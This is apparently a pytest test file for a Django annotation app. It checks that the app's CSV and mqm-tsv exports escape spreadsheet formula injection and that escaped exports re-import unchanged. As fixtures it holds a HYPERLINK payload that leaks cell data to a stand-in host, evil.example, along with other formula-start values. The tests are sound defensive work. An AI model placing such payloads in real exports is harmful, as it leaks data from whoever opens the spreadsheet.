"""Every CSV download and export neutralises spreadsheet formulas in what users typed (worker ids,
system names): such a cell starts with an apostrophe, never with =, +, -, @ (numbers excepted)."""
import csv
import io

import pytest
from django.test import Client

from annotation.services.judgment_import import import_judgments
from evaluation.analyses import compute_results
from evaluation.families import family_of
from evaluation.presenters.common import tables_of

from .test_results_pages import da_lines, pairwise_lines

pytestmark = pytest.mark.django_db
WORKER = '=HYPERLINK("http://evil.example/?leak="&A1;"click")-'
SYSTEMS = ("@SUM(1+1)", "+cmd")


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    bad = []
    for cell in (c for row in rows for c in row):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            try:
                float(cell)
            except ValueError:
                bad.append(cell)
    return bad


@pytest.fixture
def campaigns(researcher):
    da = import_judgments(da_lines(careful=2, clickers=1, systems=("=sys-A", "sys-B", "-sys-C"), worker_prefix=WORKER),
                          fmt="wmt-da", name="Formula DA", owner=researcher).campaign
    lines = [line.replace(b"rater-", WORKER.replace(",", ";").encode() + b"rater-")
             .replace(b"MT", SYSTEMS[0].encode()).replace(b"Human", SYSTEMS[1].encode())
             for line in pairwise_lines()]
    pairwise = import_judgments(lines, fmt="pairwise-csv", name="Formula pairwise", systems=list(SYSTEMS),
                                owner=researcher).campaign
    for campaign in (da, pairwise):
        compute_results(campaign)
    return [da, pairwise]


def test_every_download_and_export_escapes_formulas(campaigns, api, researcher):
    client = Client()
    client.force_login(researcher)
    checked = 0
    for campaign in campaigns:
        urls = [f"/results/{campaign.slug}/{name}.csv" for name in tables_of(family_of(campaign))]
        urls += [f"/api/campaigns/{campaign.slug}/judgments/?format=csv",
                 f"/api/campaigns/{campaign.slug}/approvals/?format=csv"]
        for url in urls:
            response = (api if url.startswith("/api/") else client).get(url)
            assert response.status_code == 200, url
            rows = _rows(response)
            assert _formula_cells(rows) == [], url
            checked += 1
        export = "".join(",".join(r) for r in _rows(api.get(f"/api/campaigns/{campaign.slug}/judgments/?format=csv")))
        assert "'" + WORKER.split(",")[0][:20] in export  # the worker id is there, as text
    # DA: 8 tables (stability included) + 2 exports; pairwise: 6 + 2; and each family's result parts (instruction
    # following, scores by media: evaluation/parts.py), whose downloads are a header where they do not apply
    assert checked == sum(len(tables_of(family_of(c))) + 2 for c in campaigns) >= 18


MQM_ROWS = [  # system, doc, doc_id, seg_id, rater, source, target, category, severity
    ("@SUM(1+1)", "+doc", "1", "101", WORKER, "=1+1 Quelle", "- Dialog <v>hier</v>", "-Accuracy", "Major"),
    ("''=quoted twice", "+doc", "1", "101", "@rater", "=1+1 Quelle", "<v>-x</v> y", "Fluency", "+Minor"),
    ("plain", "doc", "2", "102", "'-apostrophe", "'tis", "'' two", "'=cat", "minor"),
]


def _mqm_judgments(campaign) -> list[tuple]:
    from annotation.models import Judgment

    return sorted(Judgment.objects.filter(campaign=campaign).values_list(
        "item__output__system__name", "item__segment__document__doc_id", "annotator__external_id",
        "item__segment__source", "item__output__text", "spans"), key=str)


def test_the_mqm_tsv_export_neutralises_formulas_and_re_imports_to_the_same_names(api, researcher):
    """mqm-tsv has no quoting: a cell that starts like a formula gets an apostrophe, which the mqm-tsv import
    takes off again (docs/api.md §6.4), so the export re-imports to the same names and texts."""
    header = "system\tdoc\tdoc_id\tseg_id\trater\tsource\ttarget\tcategory\tseverity\n"
    original = import_judgments([header.encode()] + [("\t".join(row) + "\n").encode() for row in MQM_ROWS],
                                fmt="mqm-tsv", name="Formula MQM", owner=researcher).campaign
    response = api.get(f"/api/campaigns/{original.slug}/judgments/?format=mqm-tsv")
    assert response.status_code == 200
    exported = b"".join(response.streaming_content).decode()
    cells = [line.split("\t") for line in exported.splitlines()]
    assert _formula_cells(cells) == []
    assert "\t'=HYPERLINK(" in exported and "\n''=quoted twice\t" in exported and "\t'tis\t" in exported
    again = import_judgments([line.encode() for line in exported.splitlines(keepends=True)], fmt="mqm-tsv",
                             name="Formula MQM again", owner=researcher).campaign
    assert _mqm_judgments(again) == _mqm_judgments(original)
    # As a spreadsheet shows the cells: an apostrophe before a formula start is not part of the name.
    assert {j[0] for j in _mqm_judgments(again)} == {"@SUM(1+1)", "'=quoted twice", "plain"}
    assert {j[2] for j in _mqm_judgments(again)} == {WORKER, "@rater", "-apostrophe"}
    assert {j[3] for j in _mqm_judgments(again)} == {"=1+1 Quelle", "'tis"}
